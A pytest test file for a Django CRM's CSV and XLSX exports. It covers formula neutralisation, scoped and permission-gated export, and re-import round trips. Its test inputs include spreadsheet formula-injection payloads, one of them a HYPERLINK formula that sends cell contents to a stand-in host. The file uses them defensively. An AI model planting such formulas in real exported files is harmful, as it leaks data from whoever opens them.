"""Exports: C04 (formula neutralisation, typed numbers and dates), C07 (scope), C08 (no contact
phones without the contacts view), permissions, Chinese file names."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest

from forpcrm.core.errors import PermissionDeniedError
from forpcrm.customers.exports import contact_export_response, customer_export_response
from forpcrm.customers.models import Customer
from forpcrm.customers.services import contact_create, customer_create
from forpcrm.customfields.models import FieldDefinition
from forpcrm.imports.engine import ImportRunner, get_definition
from forpcrm.imports.readers import open_table
from forpcrm.imports.testing import media_root_fixture, read_xlsx, response_bytes, run_import, write_file  # noqa: F401
from forpcrm.org.models import DataScope, Role, RoleGrant
from forpcrm.org.services import user_create

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://x.example/?"&A2,"看")', "+1+2", "-2+3", "@SUM(1,1)", "\tleading tab"]


@pytest.fixture
def refund_field(db):
    return FieldDefinition.objects.create(entity="customer", code="refund", label="退款", label_en="",
                                          field_type="money")


@pytest.fixture
def formula_customers(admin, refund_field):
    return [customer_create(by=admin, data={"name": f"公式{i}有限公司", "remarks": text,
                                            "custom": {"refund": "-500.00"}, "revenue": Decimal("-500.00"),
                                            "founded_year": 2001})
            for i, text in enumerate(FORMULAS)]


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_c04_csv_neutralises_formulas_and_keeps_numbers(admin, formula_customers):
    rows = _csv_rows(response_bytes(customer_export_response(user=admin, params={"sort": "name"}, fmt="csv")))
    header = rows[0]
    remarks = [r[header.index("remarks")] for r in rows[1:]]
    assert remarks == ["'" + text for text in FORMULAS]
    assert {r[header.index("退款")] for r in rows[1:]} == {"-500.00"}
    assert {r[header.index("annual revenue (millions)")] for r in rows[1:]} == {"-500.00"}


def test_c04_xlsx_writes_literal_text_and_typed_numbers(admin, formula_customers):
    rows = read_xlsx(response_bytes(customer_export_response(user=admin, params={"sort": "name"}, fmt="xlsx")))
    header = rows[0]
    remarks = [r[header.index("remarks")] for r in rows[1:]]
    assert remarks == ["'" + text for text in FORMULAS]
    assert {r[header.index("退款")] for r in rows[1:]} == {-500}
    assert all(isinstance(r[header.index("created at")], dt.datetime) for r in rows[1:])
    assert {r[header.index("year founded")] for r in rows[1:]} == {2001}


def test_c04_xlsx_cells_are_strings_not_formulas(admin, formula_customers, tmp_path):
    from openpyxl import load_workbook

    data = response_bytes(customer_export_response(user=admin, params={}, fmt="xlsx"))
    sheet = load_workbook(write_file(tmp_path, "x.xlsx", data)).active
    header = [c.value for c in sheet[1]]
    column = header.index("remarks") + 1
    types = {sheet.cell(row=r, column=column).data_type for r in range(2, sheet.max_row + 1)}
    assert types == {"s"}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_c04_reimport_gives_back_the_original_strings(admin, formula_customers, media_root, tmp_path, fmt):
    path = write_file(tmp_path, f"export.{fmt}", response_bytes(
        customer_export_response(user=admin, params={"sort": "name"}, fmt=fmt)))
    table = open_table(path)
    runner = ImportRunner(definition=get_definition("customers"), table=table,
                          mapping={str(i): k for i, k in enumerate(
                              {"customer name": "name", "remarks": "remarks"}.get(h, "") for h in table.headers) if k},
                          user=admin)
    parsed = [runner.parse_row(row, raw)[0]["remarks"] for row, raw in table.rows()]
    assert parsed == FORMULAS

    _job, result = run_import(admin, "customers", path, mode="update", match_on=["name"])
    assert (result.created, result.updated, result.failed) == (0, 0, 0)
    assert result.unchanged == len(FORMULAS)
    assert sorted(Customer.objects.values_list("remarks", flat=True)) == sorted(FORMULAS)


def test_export_file_name_is_chinese_rfc5987(admin, formula_customers, settings):
    from django.utils import translation

    with translation.override("zh-hans"):
        response = customer_export_response(user=admin, params={}, fmt="csv")
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="')
    assert "filename*=UTF-8''" in disposition


def test_c07_export_honours_scope(roles, departments):
    role = Role.objects.create(code="sales_dept", name="sales")
    RoleGrant.objects.create(role=role, module="customers", actions=["view", "create", "edit", "export"],
                             scope=str(DataScope.DEPARTMENT))
    east1 = user_create(username="east1", password="x", department=departments.east, roles=[role])
    south1 = user_create(username="south1", password="x", department=departments.south, roles=[role])
    customer_create(by=east1, data={"name": "C1华东有限公司"})
    customer_create(by=south1, data={"name": "C2华南有限公司"})

    rows = _csv_rows(response_bytes(customer_export_response(user=east1, params={"q": "有限公司"}, fmt="csv")))
    assert [r[0] for r in rows[1:]] == ["C1华东有限公司"]
    rows = read_xlsx(response_bytes(customer_export_response(user=east1, params={}, fmt="xlsx")))
    assert [r[0] for r in rows[1:]] == ["C1华东有限公司"]


def test_c08_customer_export_has_no_contact_phone_without_contacts_view(admin, roles, departments):
    purchaser_role = Role.objects.create(code="purchaser", name="purchaser")
    RoleGrant.objects.create(role=purchaser_role, module="customers", actions=["view", "export"], scope=DataScope.ALL)
    purchaser = user_create(username="purchaser", password="x", department=departments.hq, roles=[purchaser_role])
    customer = customer_create(by=admin, data={"name": "广州示例有限公司"})
    contact_create(by=admin, customer=customer, data={"name": "刘洋", "mobile": "13700000003", "is_primary": True})

    admin_rows = _csv_rows(response_bytes(customer_export_response(user=admin, params={}, fmt="csv")))
    assert "13700000003" in admin_rows[1]
    for fmt in ("csv", "xlsx"):
        data = response_bytes(customer_export_response(user=purchaser, params={}, fmt=fmt))
        rows = _csv_rows(data) if fmt == "csv" else read_xlsx(data)
        assert rows[1][0] == "广州示例有限公司"
        assert "contact mobile" not in rows[0] and "contact name" not in rows[0]
        assert all("13700000003" not in str(v) and "刘洋" not in str(v) for row in rows for v in row)
    with pytest.raises(PermissionDeniedError):
        contact_export_response(user=purchaser, params={}, fmt="csv")


def test_export_requires_the_export_permission(sales_rep, customer_service):
    with pytest.raises(PermissionDeniedError):
        customer_export_response(user=customer_service, params={}, fmt="csv")
    response = customer_export_response(user=sales_rep, params={}, fmt="csv")
    assert _csv_rows(response_bytes(response))[1:] == []


def test_export_query_count_does_not_grow_with_rows(admin, django_assert_max_num_queries):
    for i in range(30):
        customer = customer_create(by=admin, data={"name": f"客户{i}有限公司"}, confirm_duplicates=True)
        contact_create(by=admin, customer=customer, data={"name": f"联系人{i}", "mobile": f"1390000{i:04d}"})
    with django_assert_max_num_queries(12):
        rows = _csv_rows(response_bytes(customer_export_response(user=admin, params={}, fmt="csv")))
    assert len(rows) == 31
    with django_assert_max_num_queries(8):
        rows = _csv_rows(response_bytes(contact_export_response(user=admin, params={}, fmt="csv")))
    assert len(rows) == 31


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_customer_export_with_everything_reimports_as_unchanged(admin, sales_rep, media_root, tmp_path, fmt):
    from forpcrm.customers.models import Contact
    from forpcrm.customfields.models import PicklistOption

    PicklistOption.objects.create(kind="level", value="A", label="A（重点客户）", label_en="A (key account)")
    PicklistOption.objects.create(kind="industry", value="technology", label="科技", label_en="Technology")
    parent = customer_create(by=admin, data={"name": "集团总部有限公司", "level": "A"})
    child = customer_create(by=admin, owner=sales_rep, data={
        "name": "子公司有限公司", "parent": parent, "industry": "technology", "tags": ["重点", "华东"],
        "status": "won", "revenue": Decimal("1234.50"), "employees": 12, "website": "https://x.example.cn",
        "founded_year": 2010})
    contact_create(by=admin, customer=child, data={"name": "王芳", "mobile": "13900000002", "is_primary": True})
    versions = sorted(Customer.objects.values_list("id", "version"))
    path = write_file(tmp_path, f"c.{fmt}", response_bytes(customer_export_response(user=admin, params={}, fmt=fmt)))

    _job, result = run_import(admin, "customers", path, mode="update", match_on=["name"])

    assert result.errors == []
    assert (result.created, result.updated, result.unchanged) == (0, 0, 2)
    assert sorted(Customer.objects.values_list("id", "version")) == versions
    assert Contact.objects.count() == 1
